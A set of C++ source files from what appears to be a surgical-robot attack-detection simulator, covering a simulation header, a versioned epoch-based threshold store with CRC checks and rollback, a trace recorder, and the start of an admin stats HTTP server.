    detection_observer_ = std::move(observer);
  }

  /// Press the physical start button (control + PLC together).
  void press_start();

 private:
  // --- phase-split tick ----------------------------------------------------
  // step() == tick_begin → [estimator solve if needs_solve] → tick_resolve
  // → plant step → tick_finish.  LockstepGroup (sim/lockstep.hpp) drives
  // the phases across many sims so the estimator solves and the plant
  // substeps run batched; each phase executes the exact statements the
  // scalar step() would.

  /// Everything one tick carries across phase boundaries.
  struct TickScratch {
    std::uint64_t tick = 0;
    CommandBytes cmd{};
    bool deliver = false;
    bool screened = false;
    DetectionPipeline::ScreenState screen{};
    DetectionPipeline::Outcome det{};
  };

  /// Console → network → control software → write chain → screening up to
  /// (not including) the estimator's model solve.
  void tick_begin();
  /// True when tick_resolve still needs the solved one-step-ahead state.
  [[nodiscard]] bool needs_solve() const noexcept {
    return scratch_.screened && !scratch_.screen.complete;
  }
  [[nodiscard]] const PendingSolve& pending_solve() const noexcept {
    return scratch_.screen.pending;
  }
  /// Verdict + mitigation + board latch + PLC; returns the drive the
  /// plant must execute this period.  `next` is ignored unless
  /// needs_solve().
  [[nodiscard]] PlantDrive tick_resolve(const RavenDynamicsModel::State& next);
  /// Encoder latch, oracle, trace/flight/event bookkeeping, clock tick.
  void tick_finish();

  friend class LockstepGroup;

  void update_oracle();
  void emit_event(std::string_view kind, std::initializer_list<obs::EventField> fields);
  void dump_flight(std::string_view reason);

  SimConfig config_;
  SimClock clock_;
  MasterConsole console_;
  UdpChannel udp_;
  ControlSoftware control_;
  Plc plc_;
  UsbBoard board_;
  PhysicalRobot plant_;
  std::optional<DetectionPipeline> pipeline_;

  InterposerChain itp_chain_;
  InterposerChain write_chain_;
  InterposerChain read_chain_;

  FeedbackBytes last_feedback_{};
  bool started_ = false;

  // Oracle state: rings of recent ground-truth end-effector positions and
  // of the operator's *clean* (pre-attack) commanded positions; "abrupt
  // jump" is excess actual displacement over commanded displacement.
  // 32 ms window: long enough for the arm's mechanics to express a real
  // jump (motor -> cable -> joint takes ~10-30 ms), short enough that a
  // slow drift at surgical speeds is not mislabelled as "abrupt".
  static constexpr std::size_t kOracleWindow = 32;  // ticks (= ms)
  std::array<Position, kOracleWindow + 1> ee_ring_{};
  std::array<Position, kOracleWindow + 1> cmd_ring_{};
  std::size_t ee_head_ = 0;
  std::size_t ee_history_ = 0;
  bool clean_pedal_ = false;
  Vec3 clean_increment_{};
  Position clean_desired_{};
  bool clean_desired_valid_ = false;
  RunOutcome outcome_{};

  TickScratch scratch_{};

  TraceRecorder* trace_ = nullptr;
  DetectionObserver detection_observer_;

  // --- telemetry (optional, caller-owned sinks) ---------------------------
  obs::EventLog* events_ = nullptr;
  std::vector<obs::EventField> event_context_;
  obs::FlightRecorder* flight_ = nullptr;
  AttackArtifacts installed_{};       ///< for injection-count bookkeeping
  std::uint64_t last_injections_ = 0;
  RobotState last_state_ = RobotState::kEStop;
  bool last_alarm_ = false;
  bool last_blocked_ = false;
  bool raven_fault_reported_ = false;
  bool plc_estop_reported_ = false;
  bool adverse_impact_reported_ = false;
};

}  // namespace rg
