#include "sim/threshold_store.hpp"

#include <cmath>
#include <fstream>
#include <sstream>
#include <utility>

#include "common/log.hpp"

namespace rg {

ThresholdStore::ThresholdStore(std::string path) : path_(std::move(path)) {
  require(!path_.empty(), "ThresholdStore: path must not be empty");
}

bool ThresholdStore::present() const { return load().ok(); }

Result<DetectionThresholds> ThresholdStore::load() const {
  std::ifstream is(path_);
  if (!is) {
    return Error(ErrorCode::kNotReady, "cannot open threshold store " + path_);
  }

  std::string magic;
  int version = 0;
  if (!(is >> magic >> version)) {
    return Error(ErrorCode::kMalformedPacket,
                 "threshold store " + path_ + ": missing header (pre-v2 or foreign file)");
  }
  if (magic != kMagic) {
    return Error(ErrorCode::kMalformedPacket,
                 "threshold store " + path_ + ": bad magic '" + magic + "'");
  }
  if (version != kVersion) {
    std::ostringstream what;
    what << "threshold store " << path_ << ": unsupported version " << version
         << " (expected " << kVersion << ")";
    return Error(ErrorCode::kMalformedPacket, what.str());
  }

  DetectionThresholds th;
  double* const slots[] = {&th.motor_vel[0],  &th.motor_vel[1],  &th.motor_vel[2],
                           &th.motor_acc[0],  &th.motor_acc[1],  &th.motor_acc[2],
                           &th.joint_vel[0],  &th.joint_vel[1],  &th.joint_vel[2]};
  for (std::size_t i = 0; i < 9; ++i) {
    if (!(is >> *slots[i])) {
      std::ostringstream what;
      what << "threshold store " << path_ << ": truncated (got " << i
           << " of 9 values)";
      return Error(ErrorCode::kMalformedPacket, what.str());
    }
    if (!std::isfinite(*slots[i])) {
      std::ostringstream what;
      what << "threshold store " << path_ << ": value " << i << " is not finite";
      return Error(ErrorCode::kMalformedPacket, what.str());
    }
  }
  return th;
}

Status ThresholdStore::save(const DetectionThresholds& thresholds) const {
  std::ofstream os(path_);
  if (!os) {
    return Error(ErrorCode::kNotReady, "cannot open threshold store " + path_ + " for write");
  }
  os << kMagic << ' ' << kVersion << '\n';
  os.precision(17);
  for (std::size_t i = 0; i < 3; ++i) os << thresholds.motor_vel[i] << ' ';
  for (std::size_t i = 0; i < 3; ++i) os << thresholds.motor_acc[i] << ' ';
  for (std::size_t i = 0; i < 3; ++i) os << thresholds.joint_vel[i] << ' ';
  os << '\n';
  if (!os) {
    return Error(ErrorCode::kInternal, "short write to threshold store " + path_);
  }
  return Status::success();
}

DetectionThresholds ThresholdStore::load_or_learn(
    const std::function<DetectionThresholds()>& learn) const {
  require(static_cast<bool>(learn), "ThresholdStore::load_or_learn: learn must be callable");
  const auto cached = load();
  if (cached.ok()) {
    RG_LOG(kInfo) << "loaded detection thresholds from " << path_;
    return cached.value();
  }
  if (cached.error().code() != ErrorCode::kNotReady) {
    RG_LOG(kWarn) << "relearning thresholds: " << cached.error().to_string();
  }
  const DetectionThresholds learned = learn();
  if (const Status saved = save(learned); !saved.ok()) {
    RG_LOG(kWarn) << "threshold cache not written: " << saved.error().to_string();
  }
  return learned;
}

}  // namespace rg
