#include "sim/threshold_store.hpp"

#include <algorithm>
#include <cmath>
#include <cstdio>
#include <fstream>
#include <sstream>
#include <utility>

#include "common/log.hpp"
#include "persist/crc32c.hpp"
#include "persist/file_lock.hpp"

namespace rg {
namespace {

/// Provenance source tokens must be single whitespace-free words so the
/// line-oriented format stays trivially parseable.
std::string sanitize_source(const std::string& source) {
  if (source.empty()) return "unknown";
  std::string out = source;
  for (char& c : out) {
    if (c == ' ' || c == '\t' || c == '\n' || c == '\r') c = '-';
  }
  return out;
}

bool finite_thresholds(const DetectionThresholds& th) {
  for (std::size_t i = 0; i < 3; ++i) {
    if (!std::isfinite(th.motor_vel[i]) || !std::isfinite(th.motor_acc[i]) ||
        !std::isfinite(th.joint_vel[i])) {
      return false;
    }
  }
  return true;
}

void write_values(std::ostream& os, const DetectionThresholds& th) {
  os.precision(17);
  for (std::size_t i = 0; i < 3; ++i) os << th.motor_vel[i] << ' ';
  for (std::size_t i = 0; i < 3; ++i) os << th.motor_acc[i] << ' ';
  for (std::size_t i = 0; i < 3; ++i) os << th.joint_vel[i] << ' ';
  os << '\n';
}

void write_epoch(std::ostream& os, const ThresholdEpoch& e) {
  os << "epoch " << e.id << " parent " << e.parent << " runs " << e.provenance.runs
     << " percentile ";
  os.precision(17);
  os << e.provenance.percentile << " margin " << e.provenance.margin << " source "
     << sanitize_source(e.provenance.source) << '\n';
  write_values(os, e.thresholds);
}

/// Read 9 finite doubles into a DetectionThresholds.  `what` names the
/// enclosing context for error messages.
Result<DetectionThresholds> read_values(std::istream& is, const std::string& what) {
  DetectionThresholds th;
  double* const slots[] = {&th.motor_vel[0], &th.motor_vel[1], &th.motor_vel[2],
                           &th.motor_acc[0], &th.motor_acc[1], &th.motor_acc[2],
                           &th.joint_vel[0], &th.joint_vel[1], &th.joint_vel[2]};
  for (std::size_t i = 0; i < 9; ++i) {
    if (!(is >> *slots[i])) {
      std::ostringstream msg;
      msg << what << ": truncated (got " << i << " of 9 values)";
      return Error(ErrorCode::kMalformedPacket, msg.str());
    }
    if (!std::isfinite(*slots[i])) {
      std::ostringstream msg;
      msg << what << ": value " << i << " is not finite";
      return Error(ErrorCode::kMalformedPacket, msg.str());
    }
  }
  return th;
}

/// Canonical text of one record (exactly what the writer emits) — the
/// unit the per-record `crc` lines cover.  Precision-17 doubles
/// round-trip through operator>>, so re-serializing a parsed record
/// reproduces the committed bytes.
std::string render_epoch(const ThresholdEpoch& e) {
  std::ostringstream os;
  write_epoch(os, e);
  return os.str();
}

std::string render_active(std::uint64_t id) {
  return "active " + std::to_string(id) + '\n';
}

std::string crc_line(const std::string& record_text) {
  char buf[24];
  std::snprintf(buf, sizeof(buf), "crc %08x\n",
                persist::crc32c(record_text.data(), record_text.size()));
  return buf;
}

}  // namespace

ThresholdStore::ThresholdStore(std::string path) : path_(std::move(path)) {
  require(!path_.empty(), "ThresholdStore: path must not be empty");
}

Result<persist::FileLock> ThresholdStore::lock_exclusive() const {
  // Advisory single-writer lock: concurrent committers (two calibration
  // tools, a tool racing the gateway's epoch reload) serialize here
  // instead of interleaving appends into a torn record.
  return persist::FileLock::acquire(path_ + ".lock", persist::FileLock::Mode::kExclusive);
}

bool ThresholdStore::present() const {
  const auto parsed = load_all();
  return parsed.ok() && !parsed.value().epochs.empty();
}

Result<ThresholdStore::Parsed> ThresholdStore::load_all() const {
  std::ifstream is(path_);
  if (!is) {
    return Error(ErrorCode::kNotReady, "cannot open threshold store " + path_);
  }

  std::string magic;
  int version = 0;
  if (!(is >> magic >> version)) {
    return Error(ErrorCode::kMalformedPacket,
                 "threshold store " + path_ + ": missing header (pre-v2 or foreign file)");
  }
  if (magic != kMagic) {
    return Error(ErrorCode::kMalformedPacket,
                 "threshold store " + path_ + ": bad magic '" + magic + "'");
  }

  Parsed parsed;
  if (version == kLegacyVersion) {
    // v2: header + 9 bare numbers.  Surface as a read-only root epoch so
    // existing caches keep working; the first commit upgrades the file.
    auto values = read_values(is, "threshold store " + path_ + " (v2)");
    if (!values.ok()) return values.error();
    ThresholdEpoch root;
    root.id = 0;
    root.thresholds = values.value();
    root.parent = ThresholdEpoch::kNoParent;
    root.provenance.source = "v2-migration";
    parsed.epochs.push_back(root);
    parsed.active_id = 0;
    parsed.legacy = true;
    return parsed;
  }
  if (version != kVersion) {
    std::ostringstream msg;
    msg << "threshold store " << path_ << ": unsupported version " << version << " (expected "
        << kVersion << " or " << kLegacyVersion << ")";
    return Error(ErrorCode::kMalformedPacket, msg.str());
  }

  bool have_active = false;
  std::string keyword;
  // Canonical text of the most recent epoch/active record, for the
  // optional `crc` line that may follow it (v3 files written before the
  // integrity retrofit have none — still valid).
  std::string last_record;
  while (is >> keyword) {
    if (keyword == "crc") {
      std::string hex;
      if (!(is >> hex) || last_record.empty()) {
        return Error(ErrorCode::kMalformedPacket,
                     "threshold store " + path_ + ": dangling crc record");
      }
      std::uint32_t stored = 0;
      if (std::sscanf(hex.c_str(), "%x", &stored) != 1) {
        return Error(ErrorCode::kMalformedPacket,
                     "threshold store " + path_ + ": unparseable crc '" + hex + "'");
      }
      const std::uint32_t computed = persist::crc32c(last_record.data(), last_record.size());
      if (stored != computed) {
        return Error(ErrorCode::kMalformedPacket,
                     "threshold store " + path_ + ": crc mismatch on record before 'crc " +
                         hex + "'");
      }
      last_record.clear();  // one crc per record
      continue;
    }
    if (keyword == "epoch") {
      ThresholdEpoch e;
      std::string kw_parent;
      std::string kw_runs;
      std::string kw_percentile;
      std::string kw_margin;
      std::string kw_source;
      if (!(is >> e.id >> kw_parent >> e.parent >> kw_runs >> e.provenance.runs >>
            kw_percentile >> e.provenance.percentile >> kw_margin >> e.provenance.margin >>
            kw_source >> e.provenance.source) ||
          kw_parent != "parent" || kw_runs != "runs" || kw_percentile != "percentile" ||
          kw_margin != "margin" || kw_source != "source") {
        return Error(ErrorCode::kMalformedPacket,
                     "threshold store " + path_ + ": malformed epoch record");
      }
      std::ostringstream what;
      what << "threshold store " << path_ << " epoch " << e.id;
      auto values = read_values(is, what.str());
      if (!values.ok()) return values.error();
      e.thresholds = values.value();
      for (const ThresholdEpoch& seen : parsed.epochs) {
        if (seen.id == e.id) {
          return Error(ErrorCode::kMalformedPacket,
                       "threshold store " + path_ + ": duplicate epoch id " +
                           std::to_string(e.id));
        }
      }
      parsed.epochs.push_back(e);
      last_record = render_epoch(e);
    } else if (keyword == "active") {
      if (!(is >> parsed.active_id)) {
        return Error(ErrorCode::kMalformedPacket,
                     "threshold store " + path_ + ": malformed active pointer");
      }
      have_active = true;  // last pointer wins
      last_record = render_active(parsed.active_id);
    } else {
      return Error(ErrorCode::kMalformedPacket,
                   "threshold store " + path_ + ": unexpected record '" + keyword + "'");
    }
  }

  if (parsed.epochs.empty()) {
    return Error(ErrorCode::kMalformedPacket, "threshold store " + path_ + ": no epochs");
  }
  if (!have_active) {
    return Error(ErrorCode::kMalformedPacket,
                 "threshold store " + path_ + ": missing active pointer");
  }
  bool active_known = false;
  for (const ThresholdEpoch& e : parsed.epochs) {
    if (e.id == parsed.active_id) active_known = true;
  }
  if (!active_known) {
    return Error(ErrorCode::kMalformedPacket,
                 "threshold store " + path_ + ": active pointer names unknown epoch " +
                     std::to_string(parsed.active_id));
  }
  return parsed;
}

Result<std::uint64_t> ThresholdStore::commit(const DetectionThresholds& thresholds,
                                             const ThresholdProvenance& provenance) {
  if (!finite_thresholds(thresholds)) {
    return Error(ErrorCode::kInvalidArgument,
                 "ThresholdStore::commit: thresholds must be finite");
  }

  auto lock = lock_exclusive();
  if (!lock.ok()) return lock.error();

  Parsed parsed;
  const auto existing = load_all();
  if (existing.ok()) {
    parsed = existing.value();
  } else if (existing.error().code() != ErrorCode::kNotReady) {
    // A store we cannot parse is history we must not clobber.
    return existing.error();
  }

  ThresholdEpoch next;
  next.thresholds = thresholds;
  next.provenance = provenance;
  next.provenance.source = sanitize_source(provenance.source);
  if (parsed.epochs.empty()) {
    next.id = 0;
    next.parent = ThresholdEpoch::kNoParent;
  } else {
    std::uint64_t max_id = 0;
    for (const ThresholdEpoch& e : parsed.epochs) max_id = std::max(max_id, e.id);
    next.id = max_id + 1;
    next.parent = static_cast<std::int64_t>(parsed.active_id);
  }

  if (parsed.epochs.empty() || parsed.legacy) {
    // Fresh store, or in-place upgrade of a v2 cache: write the whole v3
    // file (the v2 thresholds survive as epoch 0).
    std::ofstream os(path_, std::ios::trunc);
    if (!os) {
      return Error(ErrorCode::kNotReady,
                   "cannot open threshold store " + path_ + " for write");
    }
    os << kMagic << ' ' << kVersion << '\n';
    for (const ThresholdEpoch& e : parsed.epochs) {
      os << render_epoch(e) << crc_line(render_epoch(e));
    }
    os << render_epoch(next) << crc_line(render_epoch(next));
    os << render_active(next.id) << crc_line(render_active(next.id));
    if (!os) {
      return Error(ErrorCode::kInternal, "short write to threshold store " + path_);
    }
    if (parsed.legacy) {
      RG_LOG(kInfo) << "threshold store " << path_ << ": upgraded v2 cache to v3 (epoch 0 "
                    << "preserves the old thresholds)";
    }
    return next.id;
  }

  std::ofstream os(path_, std::ios::app);
  if (!os) {
    return Error(ErrorCode::kNotReady, "cannot open threshold store " + path_ + " for append");
  }
  os << render_epoch(next) << crc_line(render_epoch(next));
  os << render_active(next.id) << crc_line(render_active(next.id));
  if (!os) {
    return Error(ErrorCode::kInternal, "short write to threshold store " + path_);
  }
  return next.id;
}

Result<ThresholdEpoch> ThresholdStore::active() const {
  const auto parsed = load_all();
  if (!parsed.ok()) return parsed.error();
  for (const ThresholdEpoch& e : parsed.value().epochs) {
    if (e.id == parsed.value().active_id) return e;
  }
  return Error(ErrorCode::kInternal, "threshold store " + path_ + ": active epoch vanished");
}

Result<ThresholdEpoch> ThresholdStore::epoch(std::uint64_t id) const {
  const auto parsed = load_all();
  if (!parsed.ok()) return parsed.error();
  for (const ThresholdEpoch& e : parsed.value().epochs) {
    if (e.id == id) return e;
  }
  return Error(ErrorCode::kInvalidArgument,
               "threshold store " + path_ + ": no epoch " + std::to_string(id));
}

Status ThresholdStore::rollback(std::uint64_t id) {
  auto lock = lock_exclusive();
  if (!lock.ok()) return lock.error();
  const auto parsed = load_all();
  if (!parsed.ok()) return parsed.error();
  bool known = false;
  for (const ThresholdEpoch& e : parsed.value().epochs) {
    if (e.id == id) known = true;
  }
  if (!known) {
    return Error(ErrorCode::kInvalidArgument,
                 "threshold store " + path_ + ": cannot roll back to unknown epoch " +
                     std::to_string(id));
  }
  if (parsed.value().legacy) {
    // A v2 file has exactly one epoch and no active pointer to move;
    // rolling back to epoch 0 is a no-op, anything else was caught above.
    return Status::success();
  }
  std::ofstream os(path_, std::ios::app);
  if (!os) {
    return Error(ErrorCode::kNotReady, "cannot open threshold store " + path_ + " for append");
  }
  os << render_active(id) << crc_line(render_active(id));
  if (!os) {
    return Error(ErrorCode::kInternal, "short write to threshold store " + path_);
  }
  return Status::success();
}

Result<std::vector<ThresholdEpoch>> ThresholdStore::history() const {
  const auto parsed = load_all();
  if (!parsed.ok()) return parsed.error();
  return parsed.value().epochs;
}

}  // namespace rg
