// Versioned, epoch-based storage for learned detection thresholds.
//
// Learning the paper's 600 fault-free runs is the expensive step shared
// by benches and tools, so thresholds are cached on disk.  A fleet needs
// more than a cache: calibration must roll out in *epochs* — every commit
// appends a new immutable record carrying its provenance (how many runs,
// what percentile/margin, which pipeline produced it) and its parent
// epoch, and the file tracks which epoch is active.  A bad calibration is
// rolled back atomically by appending an `active` pointer to a previous
// epoch; nothing is ever rewritten or lost.
//
// File format v3 (line-oriented, append-only after the header):
//
//   raven-guard-thresholds 3
//   epoch <id> parent <parent> runs <n> percentile <p> margin <m> source <token>
//   <9 thresholds: motor_vel xyz, motor_acc xyz, joint_vel xyz>
//   crc <hex32>
//   active <id>
//   crc <hex32>
//
// `epoch` records and `active` pointers may interleave; the *last*
// `active` line wins.  Each record may be followed by a `crc` line — a
// CRC32C over the record's canonical serialization (precision-17
// doubles round-trip, so re-serializing the parsed record reproduces
// the committed bytes); a mismatch is kMalformedPacket.  Files without
// crc lines (pre-retrofit v3) still load.  v2 files (header + 9
// numbers) still load, exposed read-only as epoch 0 with migration
// provenance; the first commit on a v2 file rewrites it as v3
// preserving the old thresholds as epoch 0.  Short, truncated, or
// foreign files are explicit errors — a corrupt store is never
// silently clobbered.
//
// Writers (commit/rollback) hold an advisory flock on `<path>.lock`
// (persist/file_lock.hpp), so concurrent committers serialize instead
// of interleaving appends.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "common/error.hpp"
#include "core/thresholds.hpp"
#include "persist/file_lock.hpp"

namespace rg {

/// Where a committed epoch came from: enough to audit or reproduce it.
struct ThresholdProvenance {
  /// Single whitespace-free token naming the producer (e.g.
  /// "campaign-learn", "cli-learn", "v2-migration").  Whitespace is
  /// sanitised to '-' on commit.
  std::string source = "unknown";
  std::uint64_t runs = 0;     ///< fault-free runs behind the calibration
  double percentile = kDefaultThresholdPercentile;
  double margin = kDefaultThresholdMargin;
};

/// One immutable calibration epoch.
struct ThresholdEpoch {
  std::uint64_t id = 0;
  DetectionThresholds thresholds{};
  ThresholdProvenance provenance{};
  /// Parent epoch id, or kNoParent for a root epoch.
  std::int64_t parent = kNoParent;

  static constexpr std::int64_t kNoParent = -1;
};

class ThresholdStore {
 public:
  /// File format identity: first line of every store file.
  static constexpr std::string_view kMagic = "raven-guard-thresholds";
  static constexpr int kVersion = 3;
  /// Previous flat format, still loadable (read-only, as epoch 0).
  static constexpr int kLegacyVersion = 2;

  explicit ThresholdStore(std::string path);

  [[nodiscard]] const std::string& path() const noexcept { return path_; }

  /// True if the store file exists, parses, and holds at least one epoch.
  [[nodiscard]] bool present() const;

  /// Append a new epoch (parented to the current active epoch, if any)
  /// and make it active.  Returns the new epoch id.  A missing file is
  /// created; a v2 file is upgraded in place (old thresholds preserved as
  /// epoch 0); a corrupt file is an error — commit never clobbers
  /// history it cannot read.  Errors: kMalformedPacket (corrupt store),
  /// kInvalidArgument (non-finite thresholds), kNotReady (unwritable).
  [[nodiscard]] Result<std::uint64_t> commit(const DetectionThresholds& thresholds,
                                             const ThresholdProvenance& provenance);

  /// The currently active epoch.  Errors: kNotReady when the file does
  /// not exist, kMalformedPacket when it is corrupt.
  [[nodiscard]] Result<ThresholdEpoch> active() const;

  /// Look up one epoch by id.  kInvalidArgument if no such epoch.
  [[nodiscard]] Result<ThresholdEpoch> epoch(std::uint64_t id) const;

  /// Make a previously committed epoch active again by appending a new
  /// active pointer (the rolled-back-from epoch stays in history).
  /// Errors: kInvalidArgument (unknown id), kNotReady, kMalformedPacket.
  [[nodiscard]] Status rollback(std::uint64_t id);

  /// All epochs in commit order (file order).
  [[nodiscard]] Result<std::vector<ThresholdEpoch>> history() const;

 private:
  struct Parsed {
    std::vector<ThresholdEpoch> epochs;
    std::uint64_t active_id = 0;
    bool legacy = false;  ///< loaded from a v2 file (read-only view)
  };
  [[nodiscard]] Result<Parsed> load_all() const;
  /// Blocking advisory writer lock on `<path>.lock` (commit/rollback).
  [[nodiscard]] Result<persist::FileLock> lock_exclusive() const;

  std::string path_;
};

}  // namespace rg
