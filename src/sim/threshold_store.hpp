// Persistent storage for learned detection thresholds.
//
// Learning the paper's 600 fault-free runs is the expensive step shared
// by several benches, so thresholds are cached on disk.  The store uses a
// versioned header so a short, truncated, or foreign file is reported as
// an explicit error instead of silently yielding garbage through stream
// state (the failure mode of the old 9-bare-numbers format).
#pragma once

#include <functional>
#include <string>

#include "common/error.hpp"
#include "core/thresholds.hpp"

namespace rg {

class ThresholdStore {
 public:
  /// File format identity: first line of every store file.
  static constexpr std::string_view kMagic = "raven-guard-thresholds";
  static constexpr int kVersion = 2;

  explicit ThresholdStore(std::string path);

  [[nodiscard]] const std::string& path() const noexcept { return path_; }

  /// True if the store file exists and carries a parseable header.
  [[nodiscard]] bool present() const;

  /// Load the stored thresholds.  Errors are explicit:
  ///   kNotReady          — file does not exist / cannot be opened
  ///   kMalformedPacket   — missing or foreign header, unsupported
  ///                        version, or fewer than 9 finite numbers.
  [[nodiscard]] Result<DetectionThresholds> load() const;

  /// Write thresholds (header + 9 numbers at full precision).
  [[nodiscard]] Status save(const DetectionThresholds& thresholds) const;

  /// Load if present and valid; otherwise invoke `learn`, save its result
  /// (best-effort) and return it.  A corrupt existing file is treated as
  /// a miss (and overwritten) but logged.
  [[nodiscard]] DetectionThresholds load_or_learn(
      const std::function<DetectionThresholds()>& learn) const;

 private:
  std::string path_;
};

}  // namespace rg
