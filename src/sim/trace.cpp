#include "sim/trace.hpp"

namespace rg {

void TraceRecorder::write_csv(std::ostream& os) const {
  os << "tick,ee_x,ee_y,ee_z,q1,q2,q3,qd1,qd2,qd3,m1,m2,m3,md1,md2,md3,"
        "dac1,dac2,dac3,state,brakes,alarm,pred_ee_disp\n";
  for (const TraceSample& s : samples()) {
    os << s.tick << ',' << s.ee_truth[0] << ',' << s.ee_truth[1] << ',' << s.ee_truth[2] << ','
       << s.joint_pos[0] << ',' << s.joint_pos[1] << ',' << s.joint_pos[2] << ','
       << s.joint_vel[0] << ',' << s.joint_vel[1] << ',' << s.joint_vel[2] << ','
       << s.motor_pos[0] << ',' << s.motor_pos[1] << ',' << s.motor_pos[2] << ','
       << s.motor_vel[0] << ',' << s.motor_vel[1] << ',' << s.motor_vel[2] << ','
       << s.dac[0] << ',' << s.dac[1] << ',' << s.dac[2] << ','
       << to_string(s.state) << ',' << (s.brakes ? 1 : 0) << ',' << (s.detector_alarm ? 1 : 0)
       << ',' << s.predicted_ee_disp << '\n';
  }
}

}  // namespace rg
