// Per-tick trace recording — the data source for Fig-8 style trajectory
// comparison plots and for the CSV dumps that replace the paper's 3D
// graphic simulator.
#pragma once

#include <cstdint>
#include <ostream>
#include <vector>

#include "common/robot_state.hpp"
#include "kinematics/types.hpp"

namespace rg {

struct TraceSample {
  std::uint64_t tick = 0;
  Position ee_truth{};        ///< ground-truth end-effector position
  JointVector joint_pos{};    ///< ground-truth joint coordinates
  JointVector joint_vel{};
  MotorVector motor_pos{};    ///< ground-truth motor shaft angles
  MotorVector motor_vel{};
  Vec3 dac{};                 ///< modelled-channel DAC words as executed
  RobotState state = RobotState::kEStop;
  bool brakes = true;
  bool detector_alarm = false;
  double predicted_ee_disp = 0.0;  ///< estimator's one-step EE displacement
};

class TraceRecorder {
 public:
  void record(const TraceSample& sample) { samples_.push_back(sample); }
  [[nodiscard]] const std::vector<TraceSample>& samples() const noexcept { return samples_; }
  [[nodiscard]] std::size_t size() const noexcept { return samples_.size(); }
  void clear() noexcept { samples_.clear(); }

  /// CSV dump (header + one row per tick).
  void write_csv(std::ostream& os) const;

 private:
  std::vector<TraceSample> samples_;
};

}  // namespace rg
