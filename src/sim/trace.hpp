// Per-tick trace recording — the data source for Fig-8 style trajectory
// comparison plots and for the CSV dumps that replace the paper's 3D
// graphic simulator.
#pragma once

#include <cstdint>
#include <optional>
#include <ostream>
#include <vector>

#include "common/ring_buffer.hpp"
#include "common/robot_state.hpp"
#include "kinematics/types.hpp"

namespace rg {

struct TraceSample {
  std::uint64_t tick = 0;
  Position ee_truth{};        ///< ground-truth end-effector position
  JointVector joint_pos{};    ///< ground-truth joint coordinates
  JointVector joint_vel{};
  MotorVector motor_pos{};    ///< ground-truth motor shaft angles
  MotorVector motor_vel{};
  Vec3 dac{};                 ///< modelled-channel DAC words as executed
  RobotState state = RobotState::kEStop;
  bool brakes = true;
  bool detector_alarm = false;
  double predicted_ee_disp = 0.0;  ///< estimator's one-step EE displacement
};

/// Records one TraceSample per tick.  Default-constructed recorders grow
/// without bound (full-session plots); capacity-bounded recorders keep
/// only the most recent `keep_last` samples on the same overwrite ring the
/// flight recorder uses, so instrumented long campaigns stay O(capacity)
/// instead of accumulating gigabytes.
class TraceRecorder {
 public:
  TraceRecorder() = default;
  explicit TraceRecorder(std::size_t keep_last) : ring_(RingBuffer<TraceSample>(keep_last)) {}

  void record(const TraceSample& sample) {
    ++recorded_;
    if (ring_) {
      ring_->push(sample);
    } else {
      samples_.push_back(sample);
    }
  }

  /// Retained samples, oldest first.
  [[nodiscard]] std::vector<TraceSample> samples() const {
    return ring_ ? ring_->snapshot() : samples_;
  }
  /// Retained sample count (== recorded() for unbounded recorders).
  [[nodiscard]] std::size_t size() const noexcept {
    return ring_ ? ring_->size() : samples_.size();
  }
  /// Total samples ever recorded, including overwritten ones.
  [[nodiscard]] std::uint64_t recorded() const noexcept { return recorded_; }
  /// Retention bound (0 = unbounded).
  [[nodiscard]] std::size_t capacity() const noexcept {
    return ring_ ? ring_->capacity() : 0;
  }

  void clear() noexcept {
    samples_.clear();
    if (ring_) ring_->clear();
    recorded_ = 0;
  }

  /// CSV dump (header + one row per retained tick).
  void write_csv(std::ostream& os) const;

 private:
  std::vector<TraceSample> samples_;
  std::optional<RingBuffer<TraceSample>> ring_;
  std::uint64_t recorded_ = 0;
};

}  // namespace rg
