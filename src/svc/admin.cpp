#include "svc/admin.hpp"

#include <array>
#include <cerrno>
#include <cstring>
#include <map>
#include <sstream>
#include <stdexcept>
#include <string_view>

#include "common/json.hpp"
#include "obs/exposition.hpp"
#include "obs/span.hpp"

#if defined(__linux__)
#include <arpa/inet.h>
#include <netdb.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <sys/socket.h>
#include <unistd.h>
#endif

namespace rg::svc {

namespace {

constexpr std::string_view kContentJson = "application/json; charset=utf-8";
constexpr std::string_view kContentText = "text/plain; charset=utf-8";
/// Prometheus scrapers key the parser off this exact version tag.
constexpr std::string_view kContentProm = "text/plain; version=0.0.4; charset=utf-8";

std::string http_response(int status, std::string_view content_type, std::string_view body) {
  const char* phrase = "OK";
  switch (status) {
    case 200: phrase = "OK"; break;
    case 400: phrase = "Bad Request"; break;
    case 404: phrase = "Not Found"; break;
    case 405: phrase = "Method Not Allowed"; break;
    case 503: phrase = "Service Unavailable"; break;
    default: phrase = "Error"; break;
  }
  std::string out = "HTTP/1.0 " + std::to_string(status) + " " + phrase + "\r\n";
  out += "Content-Type: ";
  out += content_type;
  out += "\r\nContent-Length: " + std::to_string(body.size());
  out += "\r\nConnection: close\r\n\r\n";
  out += body;
  return out;
}

void append_u64_field(std::string& out, std::string_view key, std::uint64_t value, bool* first) {
  if (!*first) out += ", ";
  *first = false;
  json::append_quoted(out, key);
  out += ": ";
  out += std::to_string(value);
}

}  // namespace

RG_THREAD(admin) std::string AdminServer::render_stats() const {
  std::string out;
  out.reserve(4096);
  out += "{\"schema\": \"rg.admin.stats/1\"";
  const std::shared_ptr<const GatewaySnapshot> snap =
      gateway_ != nullptr ? gateway_->latest_snapshot() : nullptr;
  out += ", \"captured\": ";
  out += snap != nullptr ? "true" : "false";
  if (snap != nullptr) {
    out += ", \"seq\": " + std::to_string(snap->seq);
    out += ", \"now_ms\": " + std::to_string(snap->now_ms);
    out += ", \"estop_sessions\": " + std::to_string(snap->estop_sessions);
    const GatewayStats& st = snap->stats;
    out += ", \"gateway\": {";
    bool first = true;
    append_u64_field(out, "rx_packets", st.datagrams, &first);
    append_u64_field(out, "accepted", st.accepted, &first);
    append_u64_field(out, "rejected_size", st.rejected_size, &first);
    append_u64_field(out, "rejected_mac", st.rejected_mac, &first);
    append_u64_field(out, "rejected_checksum", st.rejected_checksum, &first);
    append_u64_field(out, "rejected_flags", st.rejected_flags, &first);
    append_u64_field(out, "rejected_duplicate", st.rejected_duplicate, &first);
    append_u64_field(out, "rejected_replayed", st.rejected_replayed, &first);
    append_u64_field(out, "rejected_stale", st.rejected_stale, &first);
    append_u64_field(out, "rejected_session_limit", st.rejected_session_limit, &first);
    append_u64_field(out, "backpressure_dropped", st.backpressure_dropped, &first);
